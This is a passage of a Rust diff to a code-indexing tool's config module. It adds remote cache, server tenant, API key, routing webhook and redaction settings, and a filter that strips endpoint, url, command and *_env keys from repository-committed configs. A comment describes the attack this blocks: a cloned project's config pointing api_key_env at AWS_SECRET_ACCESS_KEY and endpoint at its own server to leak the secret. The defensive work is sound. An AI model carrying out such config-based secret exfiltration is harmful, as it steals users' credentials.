-fn default_data_dir() -> String {
-    "~/.cruxe".into()
-}
-fn default_busy_timeout() -> u32 {
-    5000
-}
-fn default_cache_size() -> i32 {
-    -64000
+/// An indexed repository that federated queries also cover.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct FederatedIndexConfig {
+    /// Root of the repository, indexed with `cruxe index`; relative paths
+    /// are resolved against the workspace that declares it.
+    pub workspace: String,
+    /// Ref to query (default: the repository's current branch).
+    #[serde(default, rename = "ref")]
+    pub r#ref: Option<String>,
 }
-fn default_ref() -> String {
-    "main".into()
+
+/// One module of a sharded index.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ShardConfig {
+    /// Workspace-relative directories owned by the shard.
+    #[serde(default)]
+    pub paths: Vec<String>,
+}
+
+impl ShardConfig {
+    /// Whether a workspace-relative file path lies under one of the shard's
+    /// directories.
+    pub fn contains(&self, path: &str) -> bool {
+        self.paths.iter().any(|dir| {
+            let dir = dir.trim_start_matches("./").trim_matches('/');
+            dir.is_empty()
+                || path
+                    .strip_prefix(dir)
+                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
+        })
+    }
 }
-fn default_freshness_policy() -> String {
-    "balanced".into()
+
+/// CODEOWNERS ownership, used to route `cruxe check` findings per owner and
+/// by `owner:` terms in `cruxe query symbols`.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct RoutingConfig {
+    /// CODEOWNERS file, relative to the workspace. Default: the first of
+    /// `.github/CODEOWNERS`, `CODEOWNERS` and `docs/CODEOWNERS`.
+    #[serde(default)]
+    pub codeowners: Option<String>,
+    /// Team -> CODEOWNERS owners (users or emails) that belong to it. Members
+    /// are reported, routed and queried (`owner:@team`) as their team.
+    #[serde(default)]
+    pub teams: BTreeMap<String, Vec<String>>,
+    /// Owner as written in CODEOWNERS (or `(unowned)`) -> URL that receives
+    /// that owner's findings as a JSON POST with `--notify`.
+    #[serde(default)]
+    pub webhooks: BTreeMap<String, String>,
 }
-fn default_ranking_explain_level() -> String {
-    "off".into()
+
+/// Shared index cache: CI pushes finished indexes keyed by commit, and
+/// `cruxe state pull` (or a `cruxe query` without a local index) fetches the
+/// nearest ancestor's and updates it incrementally.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RemoteCacheConfig {
+    /// `s3://bucket/prefix`, `gs://bucket/prefix`, `https://host/prefix` or a
+    /// local/shared directory. Unset disables the cache.
+    #[serde(default)]
+    pub url: Option<String>,
+    /// Name of the environment variable holding a bearer token for HTTP(S)
+    /// caches.
+    #[serde(default)]
+    pub token_env: Option<String>,
+    /// Key prefix shared by every checkout of the repository. Default: the
+    /// workspace directory name.
+    #[serde(default)]
+    pub namespace: Option<String>,
+    /// How many commits back from HEAD a pull looks for a cached index.
+    #[serde(default = "default_remote_cache_max_ancestors")]
+    pub max_ancestors: usize,
+    /// Let `cruxe query` pull from the cache when the workspace has no index.
+    #[serde(default = "default_remote_cache_pull_on_query")]
+    pub pull_on_query: bool,
 }
-fn default_max_response_bytes() -> usize {
-    64 * 1024
+
+impl Default for RemoteCacheConfig {
+    fn default() -> Self {
+        Self {
+            url: None,
+            token_env: None,
+            namespace: None,
+            max_ancestors: default_remote_cache_max_ancestors(),
+            pull_on_query: default_remote_cache_pull_on_query(),
+        }
+    }
 }
-fn default_budget_numeric_sentinel() -> f64 {
-    f64::NAN
+
+fn default_remote_cache_max_ancestors() -> usize {
+    50
 }
-fn deserialize_budget_number<'de, D>(deserializer: D) -> Result<f64, D::Error>
-where
-    D: Deserializer<'de>,
-{
-    let value = serde_json::Value::deserialize(deserializer)?;
-    let parsed = match value {
-        serde_json::Value::Number(number) => number.as_f64().unwrap_or(f64::NAN),
-        serde_json::Value::String(raw) => raw.parse::<f64>().unwrap_or(f64::NAN),
-        _ => f64::NAN,
-    };
-    Ok(parsed)
+
+fn default_remote_cache_pull_on_query() -> bool {
+    true
 }
-fn default_budget_exact_match() -> RankingSignalBudgetRange {
-    RankingSignalBudgetRange {
-        min: 0.0,
-        max: 8.0,
-        default: 5.0,
-    }
+
+/// Settings for `cruxe serve-mcp --transport http`.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ServerConfig {
+    /// Projects hosted by one server. When non-empty, every HTTP request must
+    /// carry a tenant's bearer token and is confined to that tenant.
+    #[serde(default)]
+    pub tenants: Vec<TenantConfig>,
+    /// Additional credentials with restricted roles or path prefixes. Setting
+    /// any key also makes authentication mandatory on a single-project server.
+    #[serde(default)]
+    pub api_keys: Vec<ApiKeyConfig>,
+    /// Per-client guards against runaway queries.
+    #[serde(default)]
+    pub limits: ServerLimitsConfig,
+    /// Live graph updates streamed from `GET /subscribe`.
+    #[serde(default)]
+    pub subscribe: ServerSubscribeConfig,
 }
-fn default_budget_qualified_name() -> RankingSignalBudgetRange {
-    RankingSignalBudgetRange {
-        min: 0.0,
-        max: 4.0,
-        default: 2.0,
-    }
+
+/// Limits applied to every HTTP request. Clients are keyed by credential
+/// when authenticated, otherwise by remote address.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ServerLimitsConfig {
+    /// Requests accepted per client per rolling minute; 0 disables the limit.
+    #[serde(default)]
+    pub client_requests_per_minute: u32,
+    /// Estimated query cost a client may spend per rolling minute; 0
+    /// disables the budget.
+    #[serde(default)]
+    pub client_cost_per_minute: u32,
+    /// Requests whose estimated cost exceeds this are refused before they
+    /// run; 0 disables the check.
+    #[serde(default)]
+    pub max_query_cost: u32,
+    /// Wall-clock budget for one request; 0 waits indefinitely.
+    #[serde(default = "default_query_timeout_ms")]
+    pub query_timeout_ms: u64,
 }
-fn default_budget_path_affinity() -> RankingSignalBudgetRange {
-    RankingSignalBudgetRange {
-        min: 0.0,
-        max: 2.0,
-        default: 1.0,
+
+impl Default for ServerLimitsConfig {
+    fn default() -> Self {
+        Self {
+            client_requests_per_minute: 0,
+            client_cost_per_minute: 0,
+            max_query_cost: 0,
+            query_timeout_ms: default_query_timeout_ms(),
+        }
     }
 }
-fn default_budget_definition_boost() -> RankingSignalBudgetRange {
-    RankingSignalBudgetRange {
-        min: 0.0,
-        max: 2.0,
-        default: 1.0,
-    }
+
+/// Settings for graph update subscriptions.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ServerSubscribeConfig {
+    /// How often the state DB is checked for index changes.
+    #[serde(default = "default_subscribe_poll_ms")]
+    pub poll_interval_ms: u64,
+    /// Open subscriptions allowed per project; 0 disables `GET /subscribe`.
+    #[serde(default = "default_max_subscribers")]
+    pub max_subscribers: u32,
 }
-fn default_budget_kind_match() -> RankingSignalBudgetRange {
-    RankingSignalBudgetRange {
-        min: 0.0,
-        max: 3.0,
-        default: 2.0,
+
+impl Default for ServerSubscribeConfig {
+    fn default() -> Self {
+        Self {
+            poll_interval_ms: default_subscribe_poll_ms(),
+            max_subscribers: default_max_subscribers(),
+        }
     }
 }
-fn default_budget_test_file_penalty() -> RankingSignalBudgetRange {
-    RankingSignalBudgetRange {
-        min: -2.0,
-        max: 0.0,
-        default: -0.5,
-    }
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct TenantConfig {
+    pub name: String,
+    /// Project root served to this tenant.
+    pub workspace: String,
+    /// Bearer token. Prefer `token_env` to keep secrets out of config files.
+    #[serde(default)]
+    pub token: Option<String>,
+    /// Environment variable holding the bearer token.
+    #[serde(default)]
+    pub token_env: Option<String>,
+    /// Requests accepted per rolling minute; 0 disables the limit.
+    #[serde(default)]
+    pub max_requests_per_minute: u32,
+    /// Requests executing at once; 0 disables the limit.
+    #[serde(default)]
+    pub max_concurrent_requests: u32,
+    /// SQLite connections cached for this tenant; 0 uses the server default.
+    #[serde(default)]
+    pub max_open_connections: usize,
 }
-fn default_budget_file_centrality_boost() -> RankingSignalBudgetRange {
-    RankingSignalBudgetRange {
-        min: 0.0,
-        max: 0.5,
-        default: 0.25,
-    }
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ApiKeyConfig {
+    pub name: String,
+    #[serde(default)]
+    pub token: Option<String>,
+    #[serde(default)]
+    pub token_env: Option<String>,
+    /// Tenant the key belongs to; required when tenants are configured.
+    #[serde(default)]
+    pub tenant: Option<String>,
+    /// `reader` (query tools only) or `admin` (may also index).
+    #[serde(default = "default_api_key_role")]
+    pub role: String,
+    /// Repository-relative path prefixes the key may read; empty means all.
+    #[serde(default)]
+    pub read_prefixes: Vec<String>,
 }
-fn default_budget_secondary_cap_when_exact() -> RankingSignalBudgetRange {
-    RankingSignalBudgetRange {
-        min: 0.5,
-        max: 6.0,
-        default: 2.0,
+
+impl Default for ApiKeyConfig {
+    fn default() -> Self {
+        Self {
+            name: String::new(),
+            token: None,
+            token_env: None,
+            tenant: None,
+            role: default_api_key_role(),
+            read_prefixes: Vec::new(),
+        }
     }
 }
-fn default_intent_rule_order() -> Vec<String> {
-    vec![
-        "error_pattern".into(),
-        "path".into(),
-        "quoted_error".into(),
-        "symbol".into(),
-        "natural_language".into(),
-    ]
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct LoggingConfig {
+    #[serde(default = "default_log_level")]
+    pub level: String,
 }
-fn default_intent_error_patterns() -> Vec<String> {
-    vec![
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SearchIntentConfig {
+    #[serde(default = "default_intent_rule_order")]
+    pub rule_order: Vec<String>,
+    #[serde(default = "default_intent_error_patterns")]
+    pub error_patterns: Vec<String>,
+    #[serde(default = "default_intent_path_extensions")]
+    pub path_extensions: Vec<String>,
+    #[serde(default = "default_intent_symbol_kind_keywords")]
+    pub symbol_kind_keywords: Vec<String>,
+    #[serde(default = "default_intent_enable_wrapped_quoted_error_literal")]
+    pub enable_wrapped_quoted_error_literal: bool,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct AdaptivePlanConfig {
+    #[serde(default = "default_adaptive_plan_enabled")]
+    pub enabled: bool,
+    #[serde(default = "default_adaptive_plan_allow_override")]
+    pub allow_override: bool,
+    #[serde(default = "default_adaptive_plan_high_confidence_threshold")]
+    pub high_confidence_threshold: f64,
+    #[serde(default = "default_adaptive_plan_low_confidence_threshold")]
+    pub low_confidence_threshold: f64,
+    #[serde(default = "default_lexical_fast_lexical_fanout_multiplier")]
+    pub lexical_fast_lexical_fanout_multiplier: usize,
+    #[serde(default = "default_hybrid_standard_semantic_limit_multiplier")]
+    pub hybrid_standard_semantic_limit_multiplier: usize,
+    #[serde(default = "default_hybrid_standard_lexical_fanout_multiplier")]
+    pub hybrid_standard_lexical_fanout_multiplier: usize,
+    #[serde(default = "default_hybrid_standard_semantic_fanout_multiplier")]
+    pub hybrid_standard_semantic_fanout_multiplier: usize,
+    #[serde(default = "default_semantic_deep_semantic_limit_multiplier")]
+    pub semantic_deep_semantic_limit_multiplier: usize,
+    #[serde(default = "default_semantic_deep_lexical_fanout_multiplier")]
+    pub semantic_deep_lexical_fanout_multiplier: usize,
+    #[serde(default = "default_semantic_deep_semantic_fanout_multiplier")]
+    pub semantic_deep_semantic_fanout_multiplier: usize,
+    #[serde(default = "default_lexical_fast_latency_budget_ms")]
+    pub lexical_fast_latency_budget_ms: u64,
+    #[serde(default = "default_hybrid_standard_latency_budget_ms")]
+    pub hybrid_standard_latency_budget_ms: u64,
+    #[serde(default = "default_semantic_deep_latency_budget_ms")]
+    pub semantic_deep_latency_budget_ms: u64,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RankingSignalBudgetRange {
+    #[serde(
+        default = "default_budget_numeric_sentinel",
+        deserialize_with = "deserialize_budget_number"
+    )]
+    pub min: f64,
+    #[serde(
+        default = "default_budget_numeric_sentinel",
+        deserialize_with = "deserialize_budget_number"
+    )]
+    pub max: f64,
+    #[serde(
+        default = "default_budget_numeric_sentinel",
+        deserialize_with = "deserialize_budget_number"
+    )]
+    pub default: f64,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RankingSignalBudgetConfig {
+    #[serde(default = "default_budget_exact_match")]
+    pub exact_match: RankingSignalBudgetRange,
+    #[serde(default = "default_budget_qualified_name")]
+    pub qualified_name: RankingSignalBudgetRange,
+    #[serde(default = "default_budget_path_affinity")]
+    pub path_affinity: RankingSignalBudgetRange,
+    #[serde(default = "default_budget_definition_boost")]
+    pub definition_boost: RankingSignalBudgetRange,
+    #[serde(default = "default_budget_kind_match")]
+    pub kind_match: RankingSignalBudgetRange,
+    #[serde(default = "default_budget_test_file_penalty")]
+    pub test_file_penalty: RankingSignalBudgetRange,
+    #[serde(default = "default_budget_file_centrality_boost")]
+    pub file_centrality_boost: RankingSignalBudgetRange,
+    #[serde(default = "default_budget_secondary_cap_when_exact")]
+    pub secondary_cap_when_exact: RankingSignalBudgetRange,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SemanticConfig {
+    #[serde(default = "default_semantic_mode", alias = "semantic_mode")]
+    pub mode: String,
+    #[serde(default = "default_semantic_ratio")]
+    pub ratio: f64,
+    #[serde(default = "default_lexical_short_circuit_threshold")]
+    pub lexical_short_circuit_threshold: f64,
+    #[serde(default = "default_confidence_threshold")]
+    pub confidence_threshold: f64,
+    #[serde(default = "default_confidence_top_score_weight")]
+    pub confidence_top_score_weight: f64,
+    #[serde(default = "default_confidence_score_margin_weight")]
+    pub confidence_score_margin_weight: f64,
+    #[serde(default = "default_confidence_channel_agreement_weight")]
+    pub confidence_channel_agreement_weight: f64,
+    #[serde(default = "default_local_rerank_phrase_boost")]
+    pub local_rerank_phrase_boost: f64,
+    #[serde(default = "default_local_rerank_token_overlap_weight")]
+    pub local_rerank_token_overlap_weight: f64,
+    #[serde(default = "default_semantic_limit_multiplier")]
+    pub semantic_limit_multiplier: usize,
+    #[serde(default = "default_lexical_fanout_multiplier")]
+    pub lexical_fanout_multiplier: usize,
+    #[serde(default = "default_semantic_fanout_multiplier")]
+    pub semantic_fanout_multiplier: usize,
+    #[serde(default = "default_profile_advisor_mode")]
+    pub profile_advisor_mode: String,
+    #[serde(default)]
+    pub external_provider_enabled: bool,
+    #[serde(default)]
+    pub allow_code_payload_to_external: bool,
+    #[serde(default)]
+    pub embedding: SemanticEmbeddingConfig,
+    #[serde(default)]
+    pub rerank: SemanticRerankConfig,
+    #[serde(default)]
+    pub chunking: SemanticChunkingConfig,
+    #[serde(default)]
+    pub overrides: SemanticOverridesConfig,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RetrievalPolicyConfig {
+    #[serde(default = "default_policy_mode")]
+    pub mode: String,
+    #[serde(default)]
+    pub allow_request_override: bool,
+    #[serde(default = "default_policy_allowed_override_modes")]
+    pub allowed_override_modes: Vec<String>,
+    #[serde(default)]
+    pub path: PolicyPathConfig,
+    #[serde(default)]
+    pub kind: PolicyKindConfig,
+    #[serde(default)]
+    pub redaction: PolicyRedactionConfig,
+    #[serde(default)]
+    pub detect_secrets: DetectSecretsCompatConfig,
+    #[serde(default)]
+    pub opa: OpaPolicyConfig,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct PolicyPathConfig {
+    #[serde(default)]
+    pub deny: Vec<String>,
+    #[serde(default)]
+    pub allow: Vec<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct PolicyKindConfig {
+    #[serde(default)]
+    pub deny_result_types: Vec<String>,
+    #[serde(default)]
+    pub allow_result_types: Vec<String>,
+    #[serde(default)]
+    pub deny_symbol_kinds: Vec<String>,
+    #[serde(default)]
+    pub allow_symbol_kinds: Vec<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PolicyRedactionConfig {
+    #[serde(default = "default_policy_redaction_enabled")]
+    pub enabled: bool,
+    #[serde(default = "default_policy_email_masking")]
+    pub email_masking: bool,
+    #[serde(default = "default_policy_high_entropy_min_length")]
+    pub high_entropy_min_length: usize,
+    #[serde(default = "default_policy_high_entropy_threshold")]
+    pub high_entropy_threshold: f64,
+    #[serde(default)]
+    pub custom_rules: Vec<PolicyRedactionRule>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PolicyRedactionRule {
+    pub name: String,
+    pub category: String,
+    pub pattern: String,
+    #[serde(default = "default_policy_redaction_placeholder")]
+    pub placeholder: String,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct DetectSecretsCompatConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    #[serde(default)]
+    pub plugins: Vec<String>,
+    #[serde(default)]
+    pub custom_patterns: Vec<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct OpaPolicyConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    #[serde(default = "default_policy_opa_command")]
+    pub command: String,
+    #[serde(default = "default_policy_opa_query")]
+    pub query: String,
+    #[serde(default)]
+    pub policy_path: Option<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct SemanticOverridesConfig {
+    #[serde(default)]
+    pub natural_language: SemanticQueryOverride,
+    #[serde(default)]
+    pub symbol: SemanticQueryOverride,
+    #[serde(default)]
+    pub path: SemanticQueryOverride,
+    #[serde(default)]
+    pub error: SemanticQueryOverride,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct SemanticQueryOverride {
+    #[serde(default)]
+    pub ratio: Option<f64>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SemanticEmbeddingConfig {
+    #[serde(default = "default_semantic_embedding_profile", alias = "profile")]
+    pub profile: String,
+    #[serde(default = "default_semantic_embedding_provider")]
+    pub provider: String,
+    #[serde(default = "default_semantic_embedding_model")]
+    pub model: String,
+    #[serde(default = "default_semantic_embedding_model_version")]
+    pub model_version: String,
+    #[serde(default = "default_semantic_embedding_dimensions")]
+    pub dimensions: usize,
+    #[serde(default = "default_semantic_embedding_batch_size")]
+    pub batch_size: usize,
+    #[serde(default = "default_semantic_vector_backend")]
+    pub vector_backend: String,
+    /// Base URL of an OpenAI-compatible embeddings API (for example a local
+    /// llama.cpp server at `http://127.0.0.1:8080/v1`).
+    #[serde(default)]
+    pub endpoint: Option<String>,
+    /// Name of the environment variable holding the API key. Default:
+    /// `CRUXE_EMBEDDING_API_KEY`.
+    #[serde(default)]
+    pub api_key_env: Option<String>,
+    /// Header carrying the API key; see [`ProviderConfig::auth_header`].
+    #[serde(default)]
+    pub auth_header: Option<String>,
+    #[serde(default)]
+    pub requests_per_minute: Option<u32>,
+    /// Request timeout of HTTP providers. Default: 5000.
+    #[serde(default)]
+    pub timeout_ms: Option<u64>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SemanticRerankConfig {
+    #[serde(default = "default_semantic_rerank_provider")]
+    pub provider: String,
+    #[serde(default = "default_semantic_rerank_timeout_ms")]
+    pub timeout_ms: u64,
+    #[serde(default = "default_semantic_rerank_cross_encoder_model")]
+    pub cross_encoder_model: String,
+    #[serde(default = "default_semantic_rerank_cross_encoder_max_length")]
+    pub cross_encoder_max_length: usize,
+    #[serde(default = "default_semantic_rerank_candidate_cap")]
+    pub candidate_cap: usize,
+    #[serde(default = "default_semantic_rerank_timeout_budget_ms")]
+    pub timeout_budget_ms: u64,
+    #[serde(default)]
+    pub endpoint: Option<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SemanticChunkingConfig {
+    #[serde(default = "default_semantic_chunking_max_chunk_lines")]
+    pub max_chunk_lines: usize,
+    #[serde(default = "default_semantic_chunking_chunk_size_lines")]
+    pub chunk_size_lines: usize,
+    #[serde(default = "default_semantic_chunking_chunk_overlap_lines")]
+    pub chunk_overlap_lines: usize,
+    #[serde(default = "default_semantic_chunking_max_chunk_tokens")]
+    pub max_chunk_tokens: usize,
+}
+
+fn default_max_file_size() -> u64 {
+    constants::MAX_FILE_SIZE
+}
+fn default_blob_cache() -> bool {
+    true
+}
+fn default_symlinks() -> String {
+    SymlinkPolicy::default().as_str().to_string()
+}
+fn default_max_line_length() -> usize {
+    constants::MAX_LINE_LENGTH
+}
+fn default_skip_binary() -> bool {
+    true
+}
+fn default_limit() -> usize {
+    constants::DEFAULT_LIMIT
+}
+fn default_dependency_mode() -> String {
+    DependencyMode::None.as_str().to_string()
+}
+fn default_dependency_depth() -> u32 {
+    1
+}
+fn default_languages() -> Vec<String> {
+    languages::supported_indexable_languages()
+        .iter()
+        .map(|language| (*language).to_string())
+        .collect()
+}
+fn default_data_dir() -> String {
+    "~/.cruxe".into()
+}
+fn default_busy_timeout() -> u32 {
+    5000
+}
+fn default_query_timeout_ms() -> u64 {
+    30_000
+}
+fn default_subscribe_poll_ms() -> u64 {
+    2000
+}
+fn default_max_subscribers() -> u32 {
+    64
+}
+fn default_cache_size() -> i32 {
+    -64000
+}
+fn default_mmap_size() -> u64 {
+    // Mapped pages live in the OS page cache, so this bounds address space,
+    // not memory use. SQLite caps it at its compile-time maximum (2GB by
+    // default) and reads pages past the map normally.
+    2 * 1024 * 1024 * 1024
+}
+fn default_ref() -> String {
+    "main".into()
+}
+fn default_freshness_policy() -> String {
+    "balanced".into()
+}
+fn default_ranking_explain_level() -> String {
+    "off".into()
+}
+fn default_max_response_bytes() -> usize {
+    64 * 1024
+}
+fn default_budget_numeric_sentinel() -> f64 {
+    f64::NAN
+}
+fn deserialize_budget_number<'de, D>(deserializer: D) -> Result<f64, D::Error>
+where
+    D: Deserializer<'de>,
+{
+    let value = serde_json::Value::deserialize(deserializer)?;
+    let parsed = match value {
+        serde_json::Value::Number(number) => number.as_f64().unwrap_or(f64::NAN),
+        serde_json::Value::String(raw) => raw.parse::<f64>().unwrap_or(f64::NAN),
+        _ => f64::NAN,
+    };
+    Ok(parsed)
+}
+fn default_budget_exact_match() -> RankingSignalBudgetRange {
+    RankingSignalBudgetRange {
+        min: 0.0,
+        max: 8.0,
+        default: 5.0,
+    }
+}
+fn default_budget_qualified_name() -> RankingSignalBudgetRange {
+    RankingSignalBudgetRange {
+        min: 0.0,
+        max: 4.0,
+        default: 2.0,
+    }
+}
+fn default_budget_path_affinity() -> RankingSignalBudgetRange {
+    RankingSignalBudgetRange {
+        min: 0.0,
+        max: 2.0,
+        default: 1.0,
+    }
+}
+fn default_budget_definition_boost() -> RankingSignalBudgetRange {
+    RankingSignalBudgetRange {
+        min: 0.0,
+        max: 2.0,
+        default: 1.0,
+    }
+}
+fn default_budget_kind_match() -> RankingSignalBudgetRange {
+    RankingSignalBudgetRange {
+        min: 0.0,
+        max: 3.0,
+        default: 2.0,
+    }
+}
+fn default_budget_test_file_penalty() -> RankingSignalBudgetRange {
+    RankingSignalBudgetRange {
+        min: -2.0,
+        max: 0.0,
+        default: -0.5,
+    }
+}
+fn default_budget_file_centrality_boost() -> RankingSignalBudgetRange {
+    RankingSignalBudgetRange {
+        min: 0.0,
+        max: 0.5,
+        default: 0.25,
+    }
+}
+fn default_budget_secondary_cap_when_exact() -> RankingSignalBudgetRange {
+    RankingSignalBudgetRange {
+        min: 0.5,
+        max: 6.0,
+        default: 2.0,
+    }
+}
+fn default_intent_rule_order() -> Vec<String> {
+    vec![
+        "error_pattern".into(),
+        "path".into(),
+        "quoted_error".into(),
+        "symbol".into(),
+        "natural_language".into(),
+    ]
+}
+fn default_intent_error_patterns() -> Vec<String> {
+    vec![
         "error:".into(),
         "Error:".into(),
         "panic:".into(),
@@ -680,12 +1569,43 @@ fn default_log_level() -> String {
     "info".into()
 }
 
+fn default_api_key_role() -> String {
+    "reader".into()
+}
+
+fn default_goos() -> String {
+    "linux".into()
+}
+
+fn default_goarch() -> String {
+    "amd64".into()
+}
+
 impl Default for IndexConfig {
     fn default() -> Self {
         Self {
             max_file_size: default_max_file_size(),
             default_limit: default_limit(),
             languages: default_languages(),
+            webhooks: Vec::new(),
+            include: Vec::new(),
+            exclude: Vec::new(),
+            dependencies: DependencyIndexConfig::default(),
+            submodules: false,
+            blame: false,
+            blob_cache: default_blob_cache(),
+            symlinks: default_symlinks(),
+            max_line_length: default_max_line_length(),
+            skip_binary: default_skip_binary(),
+        }
+    }
+}
+
+impl Default for DependencyIndexConfig {
+    fn default() -> Self {
+        Self {
+            mode: default_dependency_mode(),
+            depth: default_dependency_depth(),
         }
     }
 }
@@ -696,6 +1616,7 @@ impl Default for StorageConfig {
             data_dir: default_data_dir(),
             busy_timeout_ms: default_busy_timeout(),
             cache_size: default_cache_size(),
+            mmap_size: default_mmap_size(),
         }
     }
 }
@@ -830,6 +1751,11 @@ impl Default for SemanticEmbeddingConfig {
             dimensions: default_semantic_embedding_dimensions(),
             batch_size: default_semantic_embedding_batch_size(),
             vector_backend: default_semantic_vector_backend(),
+            endpoint: None,
+            api_key_env: None,
+            auth_header: None,
+            requests_per_minute: None,
+            timeout_ms: None,
         }
     }
 }
@@ -1013,14 +1939,117 @@ impl SemanticConfig {
     }
 }
 
+/// Sections read only from the global config and `--config`. They run
+/// programs, so a config file committed to the repository must not be able
+/// to set them: cloning a repository and indexing it would run its code.
+const TRUSTED_ONLY_SECTIONS: &[&str] = &["plugins"];
+
+/// Keys read only from trusted config, at any depth of
+/// [`SECTIONS_WITH_TRUSTED_ONLY_KEYS`], as is any key ending in `_env`.
+/// They name a program to run, a place to send code or findings, or an
+/// environment variable whose value is sent there: a project config could
+/// otherwise point `api_key_env` at `AWS_SECRET_ACCESS_KEY` and `endpoint`
+/// at its own server.
+const TRUSTED_ONLY_KEYS: &[&str] = &["endpoint", "url", "webhooks", "command"];
+
+/// Sections searched for [`TRUSTED_ONLY_KEYS`]. Elsewhere these names are
+/// data, such as the `command` sink kind in `[taint.sinks]`.
+const SECTIONS_WITH_TRUSTED_ONLY_KEYS: &[&str] = &[
+    "index",
+    "search",
+    "semantic",
+    "query",
+    "summarize",
+    "providers",
+    "telemetry",
+    "remote_cache",
+    "routing",
+    "server",
+];
+
+/// Remove [`TRUSTED_ONLY_SECTIONS`] and [`TRUSTED_ONLY_KEYS`] from the
+/// project config at `path`.
+fn drop_trusted_only_sections(raw: &mut toml::Value, path: &Path) {
+    let Some(table) = raw.as_table_mut() else {
+        return;
+    };
+    for section in TRUSTED_ONLY_SECTIONS {
+        if table.remove(*section).is_some() {
+            tracing::warn!(
+                path = %path.display(),
+                section,
+                "ignoring [{section}] in a project config file; set it in ~/.cruxe/config.toml or pass --config"
+            );
+        }
+    }
+    let mut dropped = Vec::new();
+    for section in SECTIONS_WITH_TRUSTED_ONLY_KEYS {
+        if let Some(value) = table.get_mut(*section) {
+            drop_trusted_only_keys(value, section, &mut dropped);
+        }
+    }
+    for key in dropped {
+        tracing::warn!(
+            path = %path.display(),
+            key,
+            "ignoring {key} in a project config file; set it in ~/.cruxe/config.toml or pass --config"
+        );
+    }
+}
+
+/// Remove trusted-only keys below `value`, recording their dotted paths.
+fn drop_trusted_only_keys(value: &mut toml::Value, prefix: &str, dropped: &mut Vec<String>) {
+    match value {
+        toml::Value::Table(table) => {
+            table.retain(|key, _| {
+                let trusted_only =
+                    TRUSTED_ONLY_KEYS.contains(&key.as_str()) || key.ends_with("_env");
+                if trusted_only {
+                    dropped.push(format!("{prefix}.{key}"));
+                }
+                !trusted_only
+            });
+            for (key, child) in table.iter_mut() {
+                drop_trusted_only_keys(child, &format!("{prefix}.{key}"), dropped);
+            }
+        }
+        toml::Value::Array(items) => {
+            for item in items {
+                drop_trusted_only_keys(item, prefix, dropped);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Whether `root` is a clone made by `cruxe index <url>`.
+pub fn is_remote_checkout(root: &Path) -> bool {
+    root.join(".git")
+        .join(constants::REMOTE_CHECKOUT_MARKER)
+        .exists()
+}
+
+/// Mark the clone at `root` as a remote checkout. The marker lives under
+/// `.git`, where the repository's own files cannot put it.
+pub fn mark_remote_checkout(root: &Path) -> std::io::Result<()> {
+    std::fs::write(
+        root.join(".git").join(constants::REMOTE_CHECKOUT_MARKER),
+        "",
+    )
+}
+
 impl Config {
-    /// Load configuration with three-layer precedence:
+    /// Load configuration with layered precedence:
     /// 1. Explicit config file (from `--config` flag, highest priority)
-    /// 2. Project config: `<repo_root>/.cruxe/config.toml`
-    /// 3. Global config: `~/.cruxe/config.toml`
-    /// 4. Built-in defaults (lowest priority)
+    /// 2. Project YAML config: `<repo_root>/.cruxe.yaml` (or `.cruxe.yml`)
+    /// 3. Project config: `<repo_root>/.cruxe/config.toml`
+    /// 4. Global config: `~/.cruxe/config.toml`
+    /// 5. Built-in defaults (lowest priority)
     ///
     /// Only fields explicitly set in a higher-priority file override lower layers.
+    /// The project layers are skipped for a clone made by `cruxe index <url>`
+    /// (see [`is_remote_checkout`]): whoever published the repository wrote
+    /// them.
     pub fn load(repo_root: Option<&Path>) -> Result<Self, ConfigError> {
         Self::load_with_file(repo_root, None)
     }
@@ -1033,6 +2062,7 @@ impl Config {
         // Start with empty TOML value, then layer on each config file.
         // This ensures only explicitly-set fields override previous layers.
         let mut merged = toml::Value::Table(toml::map::Map::new());
+        let repo_root = repo_root.filter(|root| !is_remote_checkout(root));
 
         // Layer 4 (lowest priority): Global config
         if let Some(home) = dirs::home_dir() {
@@ -1047,11 +2077,24 @@ impl Config {
         if let Some(root) = repo_root {
             let project_path = root.join(constants::PROJECT_CONFIG_FILE);
             if project_path.exists() {
-                let raw = load_toml_value(&project_path)?;
+                let mut raw = load_toml_value(&project_path)?;
+                drop_trusted_only_sections(&mut raw, &project_path);
                 merge_toml_values(&mut merged, &raw);
             }
         }
 
+        // Layer 2: Project YAML config, for repos that keep settings at the root
+        if let Some(root) = repo_root
+            && let Some(yaml_path) = constants::PROJECT_YAML_CONFIG_FILES
+                .iter()
+                .map(|name| root.join(name))
+                .find(|path| path.exists())
+        {
